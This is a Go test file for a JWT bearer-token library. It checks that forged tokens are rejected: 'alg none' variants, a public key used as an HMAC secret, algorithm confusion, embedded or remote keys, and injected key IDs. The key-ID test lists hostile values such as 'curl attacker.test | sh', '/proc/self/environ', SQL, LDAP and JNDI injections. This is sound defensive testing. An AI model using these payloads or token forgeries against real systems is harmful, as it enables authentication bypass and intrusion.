package bearer_test

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/gobearer/bearer"
	"github.com/gobearer/bearer/keys"
)

// The attacks of this file want the verifier to take another key or another
// algorithm than the issuer's (RFC 8725 sections 2.1, 2.6, 3.1 and 3.10).

func attackedBy(t *testing.T, set ...*keys.Key) *bearer.Middleware[map[string]any] {
	t.Helper()
	return newMiddleware[map[string]any](t, trust(static(t, set...)))
}

func TestAlgorithmNone(t *testing.T) {
	for _, alg := range oneOfEach {
		t.Run(string(alg), func(t *testing.T) {
			k := keyOf(t, alg, keys.WithID("1"))
			good := forge(t, k, header(k), goodPayload(""))
			_, payload, signature := segmentsOf(good)
			family := []attack{{"twin: the algorithm of the key", good, nil}}
			for _, none := range []string{`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `"none "`, `"no\u006ee"`, `"none\u0000"`, `""`, `null`, ``} {
				head, want := `{"typ":"JWT","kid":"1"}`, bearer.ErrMalformed
				if none != "" {
					head = `{"alg":` + none + `,"typ":"JWT","kid":"1"}`
				}
				if len(none) > 4 {
					want = bearer.ErrUnknownKey // a name, but nobody's
				}
				input := encode(head) + "." + payload
				family = append(family,
					attack{"alg " + none + " without a signature", input + ".", bearer.ErrMalformed},
					attack{"alg " + none + " without a third segment", input, bearer.ErrMalformed},
					attack{"alg " + none + " with the signature of another token", input + "." + signature, want},
					attack{"alg " + none + " with one zero byte", input + ".AA", want},
					attack{"alg " + none + " signed by the issuer", forge(t, k, head, goodPayload("")), want},
				)
			}
			runAttacks(t, attackedBy(t, k), family)
		})
	}
}

// publicForms are the bytes in which a public key can be had by anybody.
func publicForms(t *testing.T, alg keys.Algorithm) map[string][]byte {
	t.Helper()
	public := materialOf(alg).(crypto.Signer).Public()
	der := must(x509.MarshalPKIXPublicKey(public))
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	forms := map[string][]byte{
		"PKIX DER":                       der,
		"PKIX PEM":                       text,
		"PKIX PEM without the last line": []byte(strings.TrimSuffix(string(text), "\n")),
		"PKIX PEM with CRLF":             []byte(strings.ReplaceAll(string(text), "\n", "\r\n")),
		"base64 of PKIX DER":             []byte(base64.StdEncoding.EncodeToString(der)),
		"nothing":                        {},
	}
	b64 := base64.RawURLEncoding.EncodeToString
	switch k := public.(type) {
	case *rsa.PublicKey:
		forms["PKCS #1 DER"] = x509.MarshalPKCS1PublicKey(k)
		forms["PKCS #1 PEM"] = pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: forms["PKCS #1 DER"]})
		forms["modulus"] = k.N.Bytes()
		forms["JWK"] = fmt.Appendf(nil, `{"e":"AQAB","kty":"RSA","n":%q}`, b64(k.N.Bytes()))
	case *ecdsa.PublicKey:
		forms["point"] = must(k.Bytes())
		forms["JWK"] = fmt.Appendf(nil, `{"crv":"P-256","kty":"EC","x":%q,"y":%q}`, b64(forms["point"][1:33]), b64(forms["point"][33:]))
	case ed25519.PublicKey:
		forms["point"] = k
		forms["JWK"] = fmt.Appendf(nil, `{"crv":"Ed25519","kty":"OKP","x":%q}`, b64(k))
	}
	return forms
}

func TestPublicKeyAsSecret(t *testing.T) {
	secret := newKey(t, keys.HS256, keys.WithID("secret"))
	for _, alg := range []keys.Algorithm{keys.RS256, keys.PS256, keys.ES256, keys.EdDSA} {
		t.Run(string(alg), func(t *testing.T) {
			k := keyOf(t, alg, keys.WithID("1"))
			twin := attack{"twin: signed with the private key", forge(t, k, header(k), goodPayload("")), nil}
			alone, mixed := []attack{twin}, []attack{twin, {"twin: a secret of the issuer's own", forge(t, secret, header(secret), goodPayload("")), nil}}
			for form, public := range publicForms(t, alg) {
				for mac, hash := range map[string]crypto.Hash{"HS256": crypto.SHA256, "HS384": crypto.SHA384, "HS512": crypto.SHA512} {
					for _, kid := range []string{"", `,"kid":"1"`, `,"kid":"secret"`} {
						input := encode(`{"alg":"`+mac+`"`+kid+`}`) + "." + encode(goodPayload(""))
						h := hmac.New(hash.New, public)
						h.Write([]byte(input))
						a := attack{mac + " over " + form + kid, join(input, h.Sum(nil)), bearer.ErrUnknownKey}
						alone = append(alone, a)
						// Beside a real secret the MAC is computed, and is another one.
						if mac == "HS256" && kid != `,"kid":"1"` {
							a.want = bearer.ErrSignature
						}
						mixed = append(mixed, a)
					}
				}
			}
			t.Run("alone", func(t *testing.T) { runAttacks(t, attackedBy(t, k), alone) })
			t.Run("beside a secret", func(t *testing.T) { runAttacks(t, attackedBy(t, k, secret), mixed) })
		})
	}
}

// Every algorithm is tried on the key of every other. Within a family the
// material is one, so that nothing but the key's algorithm can refuse.
func TestOtherAlgorithm(t *testing.T) {
	for _, alg := range allAlgorithms {
		t.Run(string(alg), func(t *testing.T) {
			k := keyOf(t, alg)
			family := []attack{{"twin: " + string(alg), forge(t, k, header(k), goodPayload("")), nil}}
			for _, other := range allAlgorithms {
				if other == alg {
					continue
				}
				o := keyOf(t, other)
				family = append(family,
					attack{string(other) + " by its header and its signature", forge(t, o, header(o), goodPayload("")), bearer.ErrUnknownKey},
					attack{string(other) + " by its header alone", forge(t, k, header(o), goodPayload("")), bearer.ErrUnknownKey},
					attack{string(other) + " by its signature alone", forge(t, o, header(k), goodPayload("")), bearer.ErrSignature},
				)
			}
			runAttacks(t, attackedBy(t, k), family)
		})
	}
	k := keyOf(t, keys.EdDSA)
	family := []attack{{"twin: EdDSA", forge(t, k, header(k), goodPayload("")), nil}}
	for _, name := range []string{"Ed25519", "eddsa", "EDDSA", "EdDSA ", "Ed448", "ES256K", "HS1", "RS1", "dir", "RSA-OAEP", "A256GCM", "*"} {
		family = append(family, attack{"alg " + name, forge(t, k, `{"alg":"`+name+`"}`, goodPayload("")), bearer.ErrUnknownKey})
	}
	t.Run("names of no algorithm here", func(t *testing.T) { runAttacks(t, attackedBy(t, k), family) })
}

// A token that brings its own key is not verified with it, and nothing that it
// points to is fetched.
func TestEmbeddedKey(t *testing.T) {
	var asked int
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked++ }))
	defer server.Close()

	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	certificate := base64.StdEncoding.EncodeToString(must(x509.CreateCertificate(rand.Reader, template, template, public, private)))
	jwk := fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","alg":"EdDSA","kid":"1","x":%q}`, base64.RawURLEncoding.EncodeToString(public))
	attacker, err := keys.New(keys.EdDSA, private)
	if err != nil {
		t.Fatal(err)
	}
	shared := keyOf(t, keys.EdDSA, keys.WithID("1"))

	var family []attack
	for name, member := range map[string]string{
		"jwk":         `"jwk":` + jwk,
		"jku":         fmt.Sprintf(`"jku":%q`, server.URL+"/jwks"),
		"x5u":         fmt.Sprintf(`"x5u":%q`, server.URL+"/cert"),
		"x5c":         fmt.Sprintf(`"x5c":[%q]`, certificate),
		"jwks":        `"jwks":{"keys":[` + jwk + `]}`,
		"all of them": fmt.Sprintf(`"jwk":%s,"jku":%q,"x5u":%q,"x5c":[%q]`, jwk, server.URL, server.URL, certificate),
	} {
		family = append(family,
			attack{"twin: " + name + " in a token of the issuer's", forge(t, shared, `{"alg":"EdDSA","kid":"1",`+member+`}`, goodPayload("")), nil},
			attack{name + " with the kid of the issuer's key", forge(t, attacker, `{"alg":"EdDSA","kid":"1",`+member+`}`, goodPayload("")), bearer.ErrSignature},
			attack{name + " with a kid of its own", forge(t, attacker, `{"alg":"EdDSA","kid":"mine",`+member+`}`, goodPayload("")), bearer.ErrUnknownKey},
			attack{name + " without a kid", forge(t, attacker, `{"alg":"EdDSA",`+member+`}`, goodPayload("")), bearer.ErrSignature},
		)
	}
	runAttacks(t, attackedBy(t, shared), family)

	secret := newKey(t, keys.HS256)
	oct := forge(t, secret, `{"alg":"HS256","jwk":{"kty":"oct","k":"AAAA"}}`, goodPayload(""))
	runAttacks(t, attackedBy(t, shared), []attack{
		{"a secret in jwk", oct, bearer.ErrUnknownKey},
		{"twin: the issuer's key", forge(t, shared, header(shared), goodPayload("")), nil},
	})
	if asked != 0 {
		t.Errorf("an address in a header was fetched %d times", asked)
	}
}

func TestKeyID(t *testing.T) {
	one, two := newKey(t, keys.HS256, keys.WithID("1")), newKey(t, keys.HS256, keys.WithID("two"))
	m := attackedBy(t, one, two)
	with := func(k *keys.Key, kid string) string {
		quoted, err := json.Marshal(kid)
		if err != nil {
			t.Fatal(err)
		}
		return forge(t, k, fmt.Sprintf(`{"alg":"HS256","kid":%s}`, quoted), goodPayload(""))
	}
	family := []attack{
		{"twin: the key's own", with(one, "1"), nil},
		{"twin: the other key's own", with(two, "two"), nil},
		{"twin: none", forge(t, two, `{"alg":"HS256"}`, goodPayload("")), nil},
		{"of the other key", with(one, "two"), bearer.ErrSignature},
		{"longer than the token may be", with(one, strings.Repeat("1", 17<<10)), bearer.ErrMalformed},
		{"twin: an extra member as long as 9 KB", forge(t, one, `{"alg":"HS256","kid":"1","x":"`+strings.Repeat("1", 9<<10)+`"}`, goodPayload("")), nil},
	}
	for name, kid := range map[string]string{
		"path traversal": "../../../../dev/null", "absolute path": "/proc/self/environ", "SQL": "1' UNION SELECT 'secret' -- ",
		"shell": "1; curl attacker.test | sh", "NUL behind the id": "1\x00", "NUL before the id": "\x001", "space": "1 ", "line break": "1\n",
		"10 KB": strings.Repeat("1", 10<<10), "URL": "https://attacker.test/key.pem", "LDAP": "*)(kid=*", "wildcard": "*", "format verbs": "%s%n%d",
		"another case": "TWO", "fullwidth digit": "１", "leading zero": "01", "template": "${jndi:ldap://attacker.test}", "both": "1,two",
		"prefix": "tw", "replacement character": "\ufffd",
	} {
		family = append(family, attack{name, with(two, kid), bearer.ErrUnknownKey})
	}
	runAttacks(t, m, family)
}
